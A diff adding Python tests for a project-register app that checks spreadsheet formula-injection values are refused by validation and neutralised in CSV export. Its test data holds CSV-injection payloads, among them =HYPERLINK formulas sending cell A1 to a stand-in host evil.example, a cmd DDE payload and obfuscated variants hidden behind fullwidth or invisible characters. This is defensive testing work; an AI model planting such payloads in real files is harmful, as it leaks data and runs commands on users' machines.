@@ -274,6 +274,21 @@ CORPUS: list[Bad] = [
         rows=rows_with(name_en='=HYPERLINK("http://evil.example/?"&A1,"Đường 923")')),
     Bad("formula-at-sum", nothing, "formula", "register", R2, "notes", rows=rows_with(1,
         notes="@SUM(1+1)*cmd|' /C calc'!A0")),
+    # issue 11: one rule for validation and export (portfolio._formula)
+    *(Bad(f"formula-{label}", nothing, "formula", "register", R1, column, rows=rows_with(**{column: value}),
+          also=("whitespace",))
+      for label, column, value in (
+          ("no-break-space-equals", "name_en", "\u00a0=HYPERLINK(\"http://evil.example\")"),
+          ("space-equals", "name_en", " =1+1"),
+          ("ideographic-space-minus", "location_vi", "\u3000-2+3"),
+          ("fullwidth-equals", "name_en", "＝HYPERLINK(\"http://evil.example\")"),
+          ("fullwidth-plus", "owner", "＋84 292 3820 123"),
+          ("fullwidth-minus", "location_vi", "－1+1"),
+          ("fullwidth-at", "notes", "＠SUM(A1:A9)"),
+          ("semicolon-equals", "notes", "Xem thêm; =HYPERLINK(\"http://evil.example\")"),
+          ("comma-equals", "location_vi", "Ninh Kiều,=1+1"),
+          ("semicolon-fullwidth-equals", "notes", "ghi chú;　＝1+1"),
+      )),
     Bad("date-dd-mm-yyyy", nothing, "bad_date", "register", R1, "status_as_of",
         rows=rows_with(status_as_of="01/10/2021")),
     Bad("decimal-comma", nothing, "bad_number", "register", R2, "official_area_ha",
@@ -1117,3 +1132,52 @@ def test_one_upload_limit_for_the_library_and_the_uploader() -> None:
     config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
     assert config["server"]["maxUploadSize"] * 1_000_000 == MAX_UPLOAD_BYTES == 20_000_000
     assert "max_upload_size=upload.MAX_UPLOAD_BYTES // 1_000_000" in (ROOT / "app.py").read_text("utf-8")
+
+
+# --- formula cells (issue 11): one rule, shared by validation and the CSV export --------------------
+
+FORMULAS = ["=1+1", " =1+1", "\u00a0=HYPERLINK(\"http://evil.example\")", "\u2003+1+1", "\u200b@SUM(A1)",
+            "＝HYPERLINK(\"http://evil.example\")", "＋84 292 3820", "－1+1", "＠SUM(A1:A9)", "\tTab", "\rCR",
+            "-5 km", "Xem thêm; =HYPERLINK(\"http://evil.example\")", "Ninh Kiều,=1+1", "a ;\u00a0＝1",
+            "a;=1;=2"]
+NOT_FORMULAS = ["-5", "+84", "1,5", " -5", "1 = 1", "a; b = c", "Đường tỉnh 923", "x=y", "a; +1", "e-mail"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_formula_rule(value: str) -> None:
+    from portfolio import _formula
+
+    assert _formula.is_formula(value)
+    assert _formula.SUSPECT_RE.search("plain\n" + value + "\nplain")  # the fast path looks at it
+    safe = _formula.neutralise(value)
+    assert not _formula.is_formula(safe) and safe.replace("'", "") == value.replace("'", "")
+    for piece in re.split("[;,]", safe):  # as a spreadsheet splitting at ';' or ',' sees it
+        assert not piece.lstrip().lstrip("\u200b").startswith(tuple(_formula.STARTS)), (value, piece)
+
+
+@pytest.mark.parametrize("value", NOT_FORMULAS)
+def test_not_a_formula(value: str) -> None:
+    from portfolio import _formula
+
+    assert not _formula.is_formula(value)
+    assert _formula.neutralise(value) == value
+
+
+def test_csv_export_neutralises_what_validation_refuses(make_register: MakeRegister, tmp_path: Path) -> None:
+    """Every value validation calls a formula is exported neutralised; a plain number is not touched."""
+    from portfolio import export
+
+    frame = load(*make_register())
+    values = [*FORMULAS, *NOT_FORMULAS]
+    frame = frame.iloc[[i % len(frame) for i in range(len(values))]].reset_index(drop=True)
+    frame["id"] = [f"p-{i}" for i in range(len(values))]
+    frame["notes"] = values
+    path = export.export(frame, tmp_path / "out.csv", "csv")
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        got = {row["id"]: row["notes"] for row in csv.DictReader(fh)}
+    for index, value in enumerate(values):
+        cell = got[f"p-{index}"]
+        assert cell == (export.neutralise(value) if value in FORMULAS else value)
+        assert (cell != value) == (value in FORMULAS), (value, cell)
+    for value in FORMULAS:  # and validation refuses each one
+        assert rows_module.is_formula(value)
